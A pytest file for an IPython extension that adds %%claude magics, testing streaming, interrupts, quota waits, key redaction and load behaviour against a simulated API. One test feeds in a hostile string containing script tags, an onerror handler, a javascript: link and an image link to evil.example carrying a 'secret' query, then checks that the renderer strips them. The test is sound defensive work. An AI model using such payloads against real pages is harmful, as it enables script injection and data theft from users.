"""The magic in a real ipykernel."""

import os
import signal
import socket
import threading
import time

from support import KEY

from fastmode_magic.simulator import Scenario, Simulator
from fastmode_magic.views.protocol import ANSWER_MIME


def test_a_fast_cell_streams_and_leaves_one_document(kernel, simulator: Simulator) -> None:
    simulator.script(Scenario(tokens=400, rate=400))
    kernel.run("%load_ext fastmode_magic")
    outputs = kernel.run("%%claude reply --fast\nExplain groupby.")
    assert outputs.error is None
    assert len(outputs.displays) == 1
    final = outputs.messages[-1][1]
    assert set(final) == {ANSWER_MIME, "text/markdown", "text/plain"}
    assert "`fast · " in final["text/markdown"]
    assert "400 out" in final["text/plain"]
    assert 3 <= len(outputs.messages) <= 12  # it grew before our eyes, and not with every token
    total = sum(len(bundle["text/markdown"]) for _, bundle in outputs.messages)
    assert total < 12 * len(final["text/markdown"])
    assert kernel.run("(reply.speed, _ is reply, reply.usage.output_tokens)").result == "('fast', True, 400)"


def test_an_interrupt_keeps_the_text_and_raises_two_lines(kernel, simulator: Simulator) -> None:
    simulator.script(Scenario(tokens=4_000, rate=200))
    kernel.run("%load_ext fastmode_magic")
    interrupted = []

    def stop_after_text(message: dict) -> None:
        if not interrupted and "Practice" in str(message["content"].get("data", "")):
            interrupted.append(time.monotonic())
            kernel.manager.interrupt_kernel()

    outputs = kernel.finish(kernel.start("%%claude reply\nExplain groupby."), stop_after_text)
    assert outputs.error["ename"] == "Interrupted"
    assert len("\n".join(outputs.error["traceback"]).splitlines()) == 2
    assert "`interrupted · standard · " in outputs.markdown
    assert " out · ~$" in outputs.markdown
    assert "Practice answer" in outputs.markdown
    state = kernel.run("(reply.complete, reply.estimated, _ is reply, len(reply.text) > 0)").result
    assert state == "(False, True, True, True)"
    deadline = time.monotonic() + 5
    while not simulator.disconnects and time.monotonic() < deadline:
        time.sleep(0.01)
    assert len(simulator.disconnects) == 1


def test_waiting_shows_a_countdown_and_can_be_interrupted(kernel, simulator: Simulator) -> None:
    from dataclasses import replace

    from fastmode_magic.simulator import SCENARIOS

    empty = SCENARIOS["fast_pool_empty_bare"]
    simulator.script(replace(empty, refuse=replace(empty.refuse, retry_after=60)))
    kernel.run("%load_ext fastmode_magic")
    seen: list[str] = []

    def stop_in_the_countdown(message: dict) -> None:
        text = message["content"].get("data", {}).get("text/plain", "")
        if "waiting" in text:
            seen.append(text)
            if len(seen) == 2:
                kernel.manager.interrupt_kernel()

    outputs = kernel.finish(kernel.start("%%claude --fast --fallback wait\n2+2?"), stop_in_the_countdown)
    assert seen[0] != seen[1]
    assert "for fast: the fast quota is used up" in seen[0]
    assert outputs.error["ename"] == "Interrupted"
    assert len(simulator.requests) == 1


def test_a_failed_cell_stops_what_follows_and_says_two_lines(kernel, simulator: Simulator) -> None:
    simulator.scenario = "unauthorized"
    kernel.run("%load_ext fastmode_magic")
    outputs = kernel.run("%%claude\n2+2?")
    assert outputs.error["ename"] == "Refused"
    assert len("\n".join(outputs.error["traceback"]).splitlines()) == 2
    assert "`failed · " in outputs.markdown


def test_the_key_appears_nowhere(kernel, simulator: Simulator) -> None:
    simulator.script("ok", "unauthorized", "connection_reset", "connection_reset", "connection_reset")
    kernel.run("%load_ext fastmode_magic\n%xmode Verbose")
    for cell in ("%%claude a\n2+2?", "%%claude\n2+2?", "%%claude\n2+2?", "%fastmode doctor", "%config FastMode", "a"):
        outputs = kernel.run(cell)
        assert KEY not in repr(outputs)


def test_hostile_markdown_is_inert_in_every_message(kernel, simulator: Simulator) -> None:
    hostile = (
        "<script>alert(1)</script> <img src=x onerror=alert(1)> ![x](https://evil.example/?q=secret) "
        "[a](javascript:alert(1)) \x1b[31m\u202e <style>body{display:none}</style>\n\n```html\n<b>code</b>\n```\n"
    )
    simulator.scenario = Scenario(text=hostile * 20, rate=400)
    kernel.run("%load_ext fastmode_magic")
    outputs = kernel.run("%%claude reply\n2+2?")
    for _, bundle in outputs.messages:
        for bad in ("<script", "<img", "<style", "![x]", "](javascript", "\x1b", "\u202e"):
            assert bad not in bundle["text/markdown"], bad
        assert "\x1b" not in bundle["text/plain"]
    assert kernel.run("'<script>' in reply.text").result == "True"  # the Answer keeps what came


def test_importing_and_loading_is_light(kernel) -> None:
    kernel.run("import sys; before = set(sys.modules)")
    kernel.run("%load_ext fastmode_magic\nloaded = set(sys.modules) - before")
    heavy = kernel.run(
        "sorted({m.partition('.')[0] for m in loaded}"
        " & {'anthropic', 'httpx2', 'genai_prices', 'ipywidgets', 'anywidget', 'tornado', 'pydantic'})"
    )
    assert heavy.result == "[]"


def test_the_sdk_is_loaded_on_another_thread_after_the_cell(kernel, simulator: Simulator) -> None:
    kernel.run("import threading, sys\nthreads = {}")
    kernel.run(
        "class Watch:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name in ('anthropic', 'genai_prices'):\n"
        "            threads[name] = threading.current_thread() is threading.main_thread()\n"
        "sys.meta_path.insert(0, Watch())"
    )
    kernel.run("%load_ext fastmode_magic")
    kernel.run("%%claude\n2+2?")
    assert kernel.run("threads == {'anthropic': False, 'genai_prices': False}").result == "True"


def test_the_first_cell_after_loading_collects_no_garbage_of_the_imports(kernel, simulator: Simulator) -> None:
    kernel.run("%load_ext fastmode_magic")
    kernel.run(
        "import gc, threading, time\n"
        "def loading(): return {'fastmode-load', 'fastmode-prices'} & {one.name for one in threading.enumerate()}\n"
        "while loading(): time.sleep(0.01)\n"
        "def full(): return gc.get_stats()[2]['collections']\n"
        "before = full()"
    )
    kernel.run("%%claude --fast\n2+2?")
    assert kernel.run("(full() - before, _.text)").result == "(0, '4')"


def test_a_kernel_that_ends_at_once_after_loading_ends_cleanly(kernel) -> None:
    kernel.run("%load_ext fastmode_magic")
    kernel.client.shutdown()
    process = kernel.manager.provisioner.process
    assert process.wait(timeout=20) == 0


def test_a_second_interrupt_does_no_harm(kernel, simulator: Simulator) -> None:
    simulator.script(Scenario(tokens=4_000, rate=200))
    kernel.run("%load_ext fastmode_magic")
    done = []

    def stop_twice(message: dict) -> None:
        if not done and "Practice" in str(message["content"].get("data", "")):
            done.append(True)
            pid = kernel.manager.provisioner.pid
            os.kill(pid, signal.SIGINT)
            time.sleep(0.02)
            os.kill(pid, signal.SIGINT)

    outputs = kernel.finish(kernel.start("%%claude reply\nExplain groupby."), stop_twice)
    assert outputs.error is not None
    assert kernel.run("1 + 1").result == "2"


def test_an_interrupt_while_the_sdk_is_loading_stops_only_that_cell(kernel, simulator: Simulator) -> None:
    kernel.run("%load_ext fastmode_magic")
    interrupted = []

    def stop_at_once(message: dict) -> None:
        if not interrupted and "connecting" in str(message["content"].get("data", "")):
            interrupted.append(True)
            kernel.manager.interrupt_kernel()

    first = kernel.finish(kernel.start("%%claude a\n2+2?"), stop_at_once)
    assert interrupted
    assert first.error["ename"] == "Interrupted"
    second = kernel.run("%%claude b\n2+2?")
    assert second.error is None
    assert kernel.run("b.complete").result == "True"


def test_an_interrupt_ends_a_loop_that_catches_exceptions(kernel, simulator: Simulator) -> None:
    simulator.scenario = Scenario(tokens=4_000, rate=200)
    kernel.run("%load_ext fastmode_magic")
    interrupted = []

    def stop_after_text(message: dict) -> None:
        if not interrupted and "Practice" in str(message["content"].get("data", "")):
            interrupted.append(True)
            kernel.manager.interrupt_kernel()

    loop = "for i in range(3):\n    try:\n        %claude Explain groupby.\n    except Exception:\n        pass"
    outputs = kernel.finish(kernel.start(loop), stop_after_text)
    assert outputs.error["ename"] == "Interrupted"
    assert len(simulator.requests) == 1


def test_a_bad_setting_does_not_keep_the_magics_away(kernel) -> None:
    kernel.run("import os; os.environ['FASTMODE_FALLBACK'] = 'Auto'")
    outputs = kernel.run("%load_ext fastmode_magic")
    assert outputs.error is None
    assert outputs.stream.count("\n") == 1
    assert "FASTMODE_FALLBACK cannot be 'Auto'" in outputs.stream
    assert kernel.run("%claude 2+2?").error is None


def test_reports_are_readable_as_plain_text(kernel) -> None:
    kernel.run("%load_ext fastmode_magic")
    bundle = next(iter(kernel.run("%fastmode models").displays.values()))
    assert "claude-opus-5-5" in bundle["text/plain"]
    assert "`" not in bundle["text/plain"]


def test_an_interrupted_doctor_is_two_lines(kernel, simulator: Simulator) -> None:
    kernel.run("%load_ext fastmode_magic")
    stalled = threading.Event()

    def stop_while_it_waits(message: dict) -> None:
        if message["msg_type"] == "execute_input" and not stalled.is_set():
            stalled.set()
            time.sleep(0.2)
            kernel.manager.interrupt_kernel()

    with socket.create_server(("127.0.0.1", 0)) as silent:  # accepts, and never answers
        port = silent.getsockname()[1]
        kernel.run("import os; before = os.environ['ANTHROPIC_BASE_URL']")
        kernel.run(f"os.environ['ANTHROPIC_BASE_URL'] = 'http://127.0.0.1:{port}'")
        outputs = kernel.finish(kernel.start("%fastmode doctor"), stop_while_it_waits)
    assert outputs.error["ename"] == "Interrupted"
    assert len("\n".join(outputs.error["traceback"]).splitlines()) == 2
    kernel.run("os.environ['ANTHROPIC_BASE_URL'] = before")
    assert kernel.run("%fastmode doctor").error is None
